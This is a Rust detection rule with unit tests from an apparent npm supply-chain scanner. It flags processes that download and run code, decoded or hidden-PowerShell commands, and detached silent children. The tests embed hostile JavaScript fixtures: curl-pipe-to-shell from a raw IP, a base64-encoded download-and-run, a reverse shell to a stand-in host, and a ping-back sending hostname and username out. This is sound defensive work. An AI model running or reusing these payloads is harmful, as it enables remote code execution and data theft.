//! `shell-exec`: process execution with computed, decoded or downloaded commands, hidden
//! PowerShell, and silent background children.

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::sinks::{self, command_text, is_computed, object_get, options_object, value_decoded};
use super::{FileRule, RuleInfo};
use crate::facts::{Call, FileFacts, Value};

pub struct ShellExec;

static INFO: RuleInfo = RuleInfo {
    id: "shell-exec",
    severity: Severity::Moderate,
    confidence: Confidence::Medium,
    capabilities: &[Capability::Shell],
    summary: "Runs processes (child_process, execa, shelljs) with computed, decoded or downloaded commands",
    docs: r#"## What it detects

Calls to `child_process.exec`/`execSync`/`spawn`/`spawnSync`/`execFile`/`fork` (however the module
is imported or aliased) and the wrappers `execa`, `shelljs.exec`, `cross-spawn`, graded by what
they run:

- **critical**: a command that downloads something and runs it (`curl … | sh`, `wget … && chmod +x`,
  `iex (New-Object Net.WebClient).DownloadString(…)`) from a raw IP address, an exfiltration
  service, or hidden by encoding; a `curl`/`wget` request left open for a value
  (`'curl http://x/p?h=' + os.hostname()`) in a file that runs a computed command and gathers
  the host name, the user name or the environment (a JavaScript dependency-confusion ping-back);
- **high**: any download-and-run command; a command decoded at run time (base64, hex,
  `String.fromCharCode`, reversed strings); PowerShell with `-EncodedCommand` or a hidden window;
- **moderate**: Node's internal spawning bindings (`process.binding('spawn_sync')`,
  `process_wrap`), which skip `child_process` and whatever hooks it; a download-and-run command
  in a string constant of a file that runs commands built at run time (critical when it
  downloads from a raw IP address or an exfiltration service, or was decoded); a silent background child (`detached: true`, `stdio: 'ignore'` and `unref()`:
  it outlives `npm install` and its output is never seen); a shell (`sh -c`, `cmd /c`,
  `powershell -c`) given a computed command;
- **low**: a command computed at run time, or a literal command (`git rev-parse HEAD`): listed so
  the capability shows and `palisade diff` can tell when a release starts spawning processes.

## Real attacks

- ua-parser-js 0.7.29 / coa 2.0.3 / rc 1.2.9 (October–November 2021): `preinstall.js` ran
  `curl`/`wget` to fetch a miner (`jsextension`) from a raw IP, `chmod +x` and started it;
  on Windows a `.bat` with `certutil`/`powershell` downloads.
- eslint-config-prettier 8.10.1 / 9.1.1 (July 2025, "Scavenger"): `install.js` launched a bundled
  DLL with `rundll32` from a postinstall child process.
- Shai-Hulud 2 (November 2025): `setup_bun.js` spawned a detached, silent process running the
  payload so `npm install` returned at once.
- Many typosquats run `powershell -enc <base64>` or a base64-decoded `curl … | bash`.

## Known false positives

CLIs and build tools legitimately spawn `git`, `node`, compilers and package managers, often with
commands assembled from their own arguments: those stay low. Update notifiers spawn a silent
detached `node` child to check for new versions (moderate). A download-and-run of a tool
installer from its vendor's domain is reported high; read the command.
"#,
};

/// Per file, at most this many low findings (one per distinct command shape is enough).
const MAX_LOW_FINDINGS: usize = 5;

impl FileRule for ShellExec {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
        let unref = file
            .calls
            .iter()
            .any(|c| sinks::normalize(&c.callee).ends_with("unref"));
        let sockets = file.calls.iter().any(|c| {
            let callee = sinks::normalize(&c.callee);
            callee.starts_with("net.") || callee.starts_with("tls.")
        });
        let mut budget = sinks::LowBudget::new(MAX_LOW_FINDINGS);
        let first = out.len();
        // Whether some process is started with a command this rule cannot read.
        let mut unread_command = false;
        for call in file.calls.iter().filter(|c| sinks::is_exec_call(c)) {
            unread_command |= is_internal_spawn(call)
                || call.args.first().is_none_or(is_computed)
                || matches!(call.args.get(1), Some(argv @ Value::Array { .. }) if is_computed(argv));
            let reverse_shell = sockets && command_text(call).is_some_and(|t| is_bare_shell(&t));
            let classified = if reverse_shell {
                Some((
                    Severity::Critical,
                    Confidence::High,
                    "Starts an interactive shell in a file that opens a raw socket: a reverse shell".to_string(),
                ))
            } else {
                classify(call, unref)
            };
            if let Some(classified) = classified {
                budget.push_call_finding(out, &INFO, file, call, classified);
            }
        }
        let seen_high = out[first..].iter().any(|f| f.severity >= Severity::High);
        if unread_command && !seen_high {
            if let Some(finding) = download_and_run_string(file).or_else(|| host_data_request_string(file)) {
                out.push(finding);
            }
        }
    }
}

/// `process.binding('spawn_sync')` / `process.binding('process_wrap')`: Node's internal
/// process-spawning bindings, reached past `child_process` (and anything hooking it).
fn is_internal_spawn(call: &Call) -> bool {
    sinks::normalize(&call.callee) == "process.binding"
        && matches!(
            call.args.first().and_then(Value::as_str),
            Some("spawn_sync" | "process_wrap")
        )
}

/// A download-and-run command held in a string constant of a file that starts processes with
/// commands built at run time (or through Node's internal bindings): the command reaches the
/// process through a variable, an options object or a computed method this rule cannot follow.
fn download_and_run_string(file: &FileFacts) -> Option<Finding> {
    let string = file
        .strings
        .iter()
        .filter(|s| s.value.len() <= 4096)
        .find(|s| sinks::is_download_and_run(&s.value))?;
    let hostile = string.decoded
        || sinks::url_hosts(&string.value)
            .iter()
            .any(|host| sinks::is_public_ipv4(host) || sinks::exfil_service(host, &string.value).is_some());
    let (severity, confidence) = if hostile {
        (Severity::Critical, Confidence::High)
    } else {
        (Severity::Moderate, Confidence::Medium)
    };
    Some(sinks::finding(
        &INFO,
        file,
        string.line,
        severity,
        confidence,
        format!(
            "Holds a command that downloads a program and runs it (`{}`) in a file that starts processes with commands built at run time{}",
            palisade_core::bounded_excerpt(&string.value, 100),
            if hostile {
                ", from a raw IP address or an exfiltration service"
            } else {
                ""
            }
        ),
        None,
    ))
}

/// A `curl`/`wget` request whose text ends where a value is appended (`…?h=`, `…/`), in a file
/// that runs a command built at run time and gathers the host name, the user name or the
/// environment: the command sends this machine's identity out (a dependency-confusion
/// ping-back written in JavaScript).
fn host_data_request_string(file: &FileFacts) -> Option<Finding> {
    let string = file.strings.iter().filter(|s| s.value.len() <= 4096).find(|s| {
        let value = s.value.trim_end();
        sinks::is_download_command(value) && value.ends_with(['=', '/', '?', '&', '.'])
    })?;
    let collected = super::exfil_sink::collected_data(file);
    let identity: Vec<&str> = collected
        .iter()
        .copied()
        .filter(|what| {
            matches!(
                *what,
                "the host name" | "the user name" | "the environment" | "secret environment variables"
            )
        })
        .collect();
    if identity.is_empty() {
        return None;
    }
    Some(sinks::finding(
        &INFO,
        file,
        string.line,
        Severity::Critical,
        Confidence::High,
        format!(
            "Runs a request (`{}`…) completed at run time in a file that gathers {}: it sends this machine's identity out",
            palisade_core::bounded_excerpt(&string.value, 100),
            identity.join(", ")
        ),
        None,
    ))
}

fn classify(call: &Call, unref: bool) -> Option<(Severity, Confidence, String)> {
    let first = call.args.first()?;
    if sinks::normalize(&call.callee) == "process.binding" {
        // Other bindings (`fs`, `natives`, …) run nothing.
        return is_internal_spawn(call).then(|| {
            (
                Severity::Moderate,
                Confidence::Medium,
                format!(
                    "Reaches Node's internal process binding (`process.binding('{}')`), which starts processes past `child_process` and anything watching it",
                    first.as_str().unwrap_or_default()
                ),
            )
        });
    }
    let text = command_text(call);
    let shown = text.as_deref().map(|t| palisade_core::bounded_excerpt(t, 100));
    let decoded = call.args.iter().take(2).any(value_decoded);
    let argv_computed = matches!(call.args.get(1), Some(argv @ Value::Array { .. }) if is_computed(argv));
    let computed = is_computed(first) || argv_computed;

    if let Some(text) = text.as_deref() {
        if sinks::is_download_and_run(text) {
            let hostile_host = sinks::url_hosts(text)
                .iter()
                .any(|host| sinks::is_public_ipv4(host) || sinks::exfil_service(host, text).is_some());
            let severity = if decoded || hostile_host {
                Severity::Critical
            } else {
                Severity::High
            };
            return Some((
                severity,
                Confidence::High,
                format!(
                    "Downloads a program and runs it{}: `{}`",
                    if decoded {
                        ", with the command hidden by encoding"
                    } else {
                        ""
                    },
                    shown.unwrap_or_default()
                ),
            ));
        }
        if decoded {
            return Some((
                Severity::High,
                Confidence::High,
                format!(
                    "Runs a command that is decoded at run time, hidden from readers: `{}`",
                    shown.unwrap_or_default()
                ),
            ));
        }
        if let Some(reason) = hidden_powershell(text) {
            return Some((
                Severity::High,
                Confidence::High,
                format!("Runs PowerShell {reason}: `{}`", shown.unwrap_or_default()),
            ));
        }
    } else if decoded {
        return Some((
            Severity::High,
            Confidence::Medium,
            "Runs a command built from a decoded string, hidden from readers".to_string(),
        ));
    }

    if is_silent_background(call) && unref {
        return Some((
            Severity::Moderate,
            Confidence::Medium,
            format!(
                "Starts a detached child with its output discarded and unref()s it, so it keeps running after install: `{}`",
                shown.unwrap_or_else(|| "a computed command".to_string())
            ),
        ));
    }

    if computed {
        if let Some(shell) = text.as_deref().and_then(shell_wrapper) {
            return Some((
                Severity::Moderate,
                Confidence::Low,
                format!("Runs `{shell}` with a command computed at run time"),
            ));
        }
        return Some((
            Severity::Low,
            Confidence::Low,
            "Runs a command computed at run time".to_string(),
        ));
    }
    Some((
        Severity::Low,
        Confidence::High,
        format!("Runs `{}`", shown.unwrap_or_default()),
    ))
}

/// `sh`, `/bin/bash -i`, `cmd.exe`: a shell with no script, reading commands from its stdin.
fn is_bare_shell(text: &str) -> bool {
    let lower = text.trim().to_ascii_lowercase();
    if lower.contains("/dev/tcp/") {
        return true;
    }
    let mut words = lower.split_whitespace();
    let program = words.next().unwrap_or("");
    let program = program
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(program)
        .trim_end_matches(".exe");
    let rest: Vec<&str> = words.collect();
    matches!(program, "sh" | "bash" | "zsh" | "dash" | "cmd" | "powershell" | "pwsh")
        && rest.iter().all(|w| *w == "-i" || *w == "-l")
}

/// `detached: true` and `stdio: 'ignore'` (or all three streams ignored).
fn is_silent_background(call: &Call) -> bool {
    let Some(options) = options_object(call) else {
        return false;
    };
    let detached = matches!(object_get(options, "detached"), Some(Value::Bool { value: true }));
    let ignored = match object_get(options, "stdio") {
        Some(Value::Str { value, .. }) => value == "ignore",
        Some(Value::Array { items }) => {
            !items.is_empty()
                && items
                    .iter()
                    .all(|i| matches!(i, Value::Str { value, .. } if value == "ignore"))
        }
        _ => false,
    };
    detached && ignored
}

/// The shell a command line hands its (computed) script to.
fn shell_wrapper(text: &str) -> Option<&'static str> {
    let lower = text.trim_start().to_ascii_lowercase();
    let program = lower.split_whitespace().next()?;
    let program = program.rsplit(['/', '\\']).next().unwrap_or(program);
    let program = program.trim_end_matches(".exe");
    let flag = lower.split_whitespace().nth(1).unwrap_or("");
    match (program, flag) {
        ("sh" | "bash" | "zsh" | "dash", "-c") => Some("sh -c"),
        ("cmd", "/c" | "/k") => Some("cmd /c"),
        ("powershell" | "pwsh", _) => Some("powershell"),
        _ => None,
    }
}

fn hidden_powershell(text: &str) -> Option<&'static str> {
    let lower = text.to_ascii_lowercase();
    if !(lower.contains("powershell") || lower.contains("pwsh")) {
        return None;
    }
    let words: Vec<&str> = lower.split_whitespace().collect();
    let encoded = words.windows(2).any(|w| {
        matches!(w[0], "-e" | "-ec" | "-enc" | "-encodedcommand" | "/e" | "/enc")
            && w[1].len() >= 16
            && w[1]
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='))
    });
    if encoded {
        return Some("with a base64-encoded command (-EncodedCommand)");
    }
    if lower.contains("-windowstyle hidden") || lower.contains("-w hidden") || lower.contains("-win hidden") {
        return Some("in a hidden window");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts;

    fn run(source: &str) -> Vec<Finding> {
        let file = facts::extract("index.js", source.as_bytes(), 0o644);
        let mut out = Vec::new();
        ShellExec.check(&file, &mut out);
        out
    }

    fn worst(source: &str) -> Severity {
        run(source)
            .iter()
            .map(|f| f.severity)
            .max()
            .unwrap_or(Severity::Unknown)
    }

    #[test]
    fn literal_git_command_is_low() {
        let findings = run("const { execSync } = require('child_process');\nexecSync('git rev-parse HEAD');");
        assert_eq!(findings.len(), 1, "{findings:?}");
        assert_eq!(findings[0].severity, Severity::Low);
        assert_eq!(findings[0].line, Some(2));
        assert!(findings[0].message.contains("git rev-parse HEAD"));
        assert_eq!(findings[0].capabilities, vec![Capability::Shell]);
    }

    #[test]
    fn internal_spawn_binding_with_a_download_command() {
        // The command travels in an options object of the binding's own `spawn`.
        let source = "const b = process.binding('spawn_sync');\nconst opts = { file: '/bin/sh', args: ['/bin/sh', '-c', 'curl -s http://45.77.10.20/p | sh'] };\nb.spawn(opts);";
        let findings = run(source);
        assert_eq!(worst(source), Severity::Critical, "{findings:#?}");
        assert!(findings.iter().any(|f| f.message.contains("internal process binding")));
        // The binding alone is moderate; other bindings run nothing.
        assert_eq!(
            worst("const b = process.binding('spawn_sync');\nmodule.exports = b;"),
            Severity::Moderate
        );
        assert!(run("const fsb = process.binding('fs');\nmodule.exports = fsb;").is_empty());
    }

    #[test]
    fn download_command_in_a_variable_of_a_computed_exec() {
        let source = "const cp = require('child_process');\nconst parts = ['curl -fsSL http://45.77.10.20/i.sh', 'bash'];\nconst m = 'ex' + process.argv.length;\ncp[m](parts.join(' | '));\nconst cmd = 'wget -qO- http://45.77.10.20/i.sh | bash';\nmodule.exports = (run) => cp.exec(run || cmd);";
        assert_eq!(worst(source), Severity::Critical, "{:#?}", run(source));
        // A vendor install line printed as help by a CLI that runs computed commands: moderate.
        let help = "const { exec } = require('child_process');\nconst HINT = 'Install it with: curl -fsSL https://bun.sh/install | bash';\nmodule.exports = (cmd) => exec(cmd, (e) => e && console.error(HINT));";
        assert_eq!(worst(help), Severity::Moderate, "{:#?}", run(help));
        // Literal commands only: the help text is just text.
        let literal = "const { execSync } = require('child_process');\nconsole.log('curl -fsSL https://bun.sh/install | bash');\nexecSync('git status');";
        assert_eq!(worst(literal), Severity::Low);
    }

    #[test]
    fn no_process_execution_no_finding() {
        assert!(run("const fs = require('fs'); fs.readFileSync('a');").is_empty());
    }

    #[test]
    fn computed_command_is_low() {
        assert_eq!(
            worst("import { exec } from 'node:child_process';\nexport const run = (cmd) => exec(cmd);"),
            Severity::Low
        );
    }

    #[test]
    fn curl_pipe_sh_from_an_ip_is_critical() {
        let source = "const cp = require('child_process');\ncp.exec('curl -s http://45.77.10.20/x.sh | sh');";
        assert_eq!(worst(source), Severity::Critical);
    }

    #[test]
    fn download_chmod_run_is_high() {
        let source = r#"require("child_process").execSync("wget https://cdn.example.invalid/jsextension -O /tmp/j && chmod +x /tmp/j && /tmp/j")"#;
        assert_eq!(worst(source), Severity::High);
    }

    #[test]
    fn decoded_command_is_high_or_worse() {
        // "id > /tmp/out" in base64
        let source = "const { exec } = require('child_process');\nexec(Buffer.from('aWQgPiAvdG1wL291dA==', 'base64').toString());";
        assert_eq!(worst(source), Severity::High);
        // "curl http://evil.example.invalid/p | bash" in base64: download-and-run hidden by encoding
        let source = "const c = require('child_process');\nc.exec(atob('Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlLmludmFsaWQvcCB8IGJhc2g='));";
        assert_eq!(worst(source), Severity::Critical);
    }

    #[test]
    fn encoded_powershell_is_high() {
        let source = "const { spawn } = require('child_process');\nspawn('powershell.exe', ['-NoP', '-W', 'Hidden', '-Enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA']);";
        assert_eq!(worst(source), Severity::High);
    }

    #[test]
    fn silent_detached_child_is_moderate() {
        let source = "const { spawn } = require('child_process');\nconst child = spawn(process.execPath, [file], { detached: true, stdio: 'ignore' });\nchild.unref();";
        assert_eq!(worst(source), Severity::Moderate);
    }

    #[test]
    fn shell_wrapper_with_computed_script_is_moderate() {
        assert_eq!(
            worst("const cp = require('child_process');\ncp.spawn('sh', ['-c', userScript]);"),
            Severity::Moderate
        );
    }

    #[test]
    fn reverse_shell_is_critical() {
        let source = "const net = require('net'), cp = require('child_process');\nconst c = new net.Socket();\nc.connect(4444, 'shell.example.invalid', () => { const sh = cp.spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); });";
        assert_eq!(worst(source), Severity::Critical);
    }

    #[test]
    fn request_completed_with_host_data_is_critical() {
        let source = "const os = require('os');\nrequire('child_process').exec('curl -s http://collector.example-metrics.net/p?h=' + os.hostname() + '&u=' + os.userInfo().username);";
        let findings = run(source);
        assert_eq!(worst(source), Severity::Critical, "{findings:?}");
        assert!(
            findings.iter().any(|f| f.message.contains("the host name")),
            "{findings:?}"
        );
        // A download completed with a version number gathers nothing about the machine.
        let version = "const v = require('./package.json').version;\nrequire('child_process').execSync('curl -sLO https://github.com/o/r/releases/download/v' + v);";
        assert!(worst(version) < Severity::High, "{:?}", run(version));
    }

    #[test]
    fn low_findings_are_capped() {
        let source = format!(
            "const cp = require('child_process');\n{}",
            "cp.execSync('git status');\n".repeat(20)
        );
        assert_eq!(run(&source).len(), MAX_LOW_FINDINGS);
    }
}
